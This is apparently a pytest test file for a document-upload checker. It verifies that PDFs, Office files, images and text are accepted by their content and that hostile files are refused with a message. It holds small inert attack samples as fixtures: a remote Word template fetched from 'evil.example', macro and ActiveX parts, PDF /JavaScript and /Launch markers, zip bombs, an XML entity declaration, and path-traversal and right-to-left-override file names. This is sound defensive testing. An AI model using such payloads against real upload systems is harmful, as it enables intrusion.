"""What a file really is: taken by its content, refused in words."""

from __future__ import annotations

import contextlib
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from iscm_portal.common.documents import KINDS, FileRefused, check_document, safe_name
from tests import files

GOOD = {
    "declaration.pdf": (files.PDF, "application/pdf"),
    "Report.DOCX": (
        files.office(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "figures.xlsx": (
        files.office("xlsx"),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "slides.pptx": (
        files.office("pptx"),
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    "text.odt": (files.open_document(), "application/vnd.oasis.opendocument.text"),
    "photo.png": (files.PNG, "image/png"),
    "photo.jpg": (files.JPG, "image/jpeg"),
    "notes.txt": ("Été 2026".encode(), "text/plain; charset=utf-8"),
}


@pytest.mark.parametrize("name", GOOD)
def test_what_offices_send_is_taken_as_what_it_is(name):
    content, media_type = GOOD[name]
    file = io.BytesIO(content)
    assert check_document(name, file).media_type == media_type
    assert file.read() == content


MACRO = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
TEMPLATE = (
    b'<Relationships><Relationship Type="http://x/relationships/attachedTemplate" '
    b'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINK = (
    b'<Relationships><Relationship Type="http://x/relationships/hyperlink" '
    b'Target="https://www.iom.int/" TargetMode="External"/></Relationships>'
)
BAD = {
    "a program": ("outcome.exe", b"MZ\x90\0", "This kind of file is not taken"),
    "a page": ("outcome.html", b"<script>alert(1)</script>", "This kind of file is not taken"),
    "a picture that runs": ("logo.svg", b"<svg/>", "This kind of file is not taken"),
    "no extension": ("outcome", files.PDF, "This kind of file is not taken"),
    "a macro file by its name": ("a.docm", files.office(), "macros are not taken"),
    "an old Word file": ("a.doc", b"\xd0\xcf\x11\xe0", "Old Office files"),
    "nothing": ("a.pdf", b"", "The file is empty"),
    "a program called PDF": ("a.pdf", b"MZ\x90\0%%EOF", "not that of a whole PDF"),
    "half a PDF": ("a.pdf", files.PDF[:-10], "not that of a whole PDF"),
    "a PDF after a page": ("a.pdf", b"<html>" + files.PDF, "not that of a whole PDF"),
    "a PDF with a script": ("a.pdf", files.PDF.replace(b"/Type", b"/JavaScript"), "with scripts"),
    "a PDF that starts programs": ("a.pdf", files.PDF.replace(b"/Type", b"/Launch"), "scripts"),
    "a PDF with a file inside": ("a.pdf", files.PDF.replace(b"/Type", b"/EmbeddedFile"), "inside"),
    "a PDF called Word": ("a.docx", files.PDF, "not that of such a file"),
    "a sheet called Word": ("a.docx", files.office("xlsx"), "not that of such a file"),
    "any packed file": ("a.docx", files.packed({"a.txt": b"a"}), "not that of such a file"),
    "a Word file with macros": ("a.docx", files.office(**MACRO), "macros or files inside"),
    "a hidden macro type": (
        "a.docx",
        files.packed(
            {
                "[Content_Types].xml": b'<Override ContentType="x.document.macroEnabled.main"/>',
                "word/document.xml": b"<body/>",
            }
        ),
        "Files with macros",
    ),
    "a control that runs": (
        "a.docx",
        files.office(**{"word/activeX/activeX1.xml": b"<x/>"}),
        "macros or files inside",
    ),
    "an object inside": (
        "a.xlsx",
        files.office("xlsx", **{"xl/embeddings/oleObject1.bin": b"x"}),
        "macros or files inside",
    ),
    "a template from elsewhere": (
        "a.docx",
        files.office(**{"word/_rels/settings.xml.rels": TEMPLATE}),
        "fetches parts from elsewhere",
    ),
    "entities without end": (
        "a.docx",
        files.office(**{"word/styles.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}),
        "declarations that no program writes",
    ),
    "a bomb": (
        "a.docx",
        files.office(**{"word/media/image1.png": b"\0" * 30_000_000}),
        "unpacks to more than it should",
    ),
    "a bomb that lies": (
        "a.docx",
        files.lying_about_its_size(files.office(**{"word/a.xml": b"\0" * 30_000_000}), 100),
        "The file",
    ),
    "very many parts": (
        "a.docx",
        files.office(**{f"word/{n}.xml": b"" for n in range(3100)}),
        "unpacks to more than it should",
    ),
    "a password": ("a.docx", files.locked(files.office()), "behind a password"),
    "half a Word file": ("a.docx", files.office()[:120], "The file is damaged"),
    "a Word file with a hole": (
        "a.docx",
        files.office(**{"word/a.xml": bytes(range(256)) * 40}).replace(b"\x05", b"\x06", 3),
        "The file is damaged",
    ),
    "an OpenDocument with macros": (
        "a.odt",
        files.packed({"mimetype": b"x", "Basic/Standard/Module1.xml": b"x"}),
        "macros or files inside",
    ),
    "half a picture": ("a.png", files.PNG[:12], "not that of such a picture"),
    "a page called a picture": ("a.jpg", b"<html>", "not that of such a picture"),
    "text of another kind": ("a.txt", b"\xff\xfe\x00a", "not plain text"),
    "text with a NUL": ("a.txt", b"a\0b", "not plain text"),
}


@pytest.mark.parametrize("name", BAD)
def test_what_is_not_what_it_seems_is_refused_in_words(name):
    filename, content, words = BAD[name]
    with pytest.raises(FileRefused, match=words):
        check_document(filename, io.BytesIO(content))


def test_a_link_in_a_text_is_no_part_from_elsewhere():
    content = files.office(**{"word/_rels/document.xml.rels": LINK})
    assert check_document("a.docx", io.BytesIO(content)).media_type.endswith("document")


@given(content=st.binary(max_size=300), extension=st.sampled_from(["pdf", "docx", "odt", "png"]))
def test_whatever_the_bytes_the_answer_is_a_refusal_and_never_a_crash(content, extension):
    with pytest.raises(FileRefused):
        check_document(f"a.{extension}", io.BytesIO(content))


@given(place=st.integers(0, 400), byte=st.integers(0, 255))
@example(place=380, byte=1)  # a part that begins before the file does
def test_a_damaged_file_is_taken_or_refused_and_never_a_crash(place, byte):
    content = bytearray(files.office(**{"word/styles.xml": b"<styles/>" * 20}))
    content[place % len(content)] = byte
    with contextlib.suppress(FileRefused):
        assert check_document("a.docx", io.BytesIO(bytes(content))) is KINDS["docx"]


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("Outcome document.pdf", "Outcome document.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\me\\Décl.pdf", "Décl.pdf"),
        ("fdp.\u202egpj.exe.pdf", "fdp.gpj.exe.pdf"),
        ("line\r\nbreak\0.pdf", "linebreak.pdf"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
    ],
)
def test_a_name_is_kept_without_what_could_mislead(sent, kept):
    assert safe_name(sent) == kept
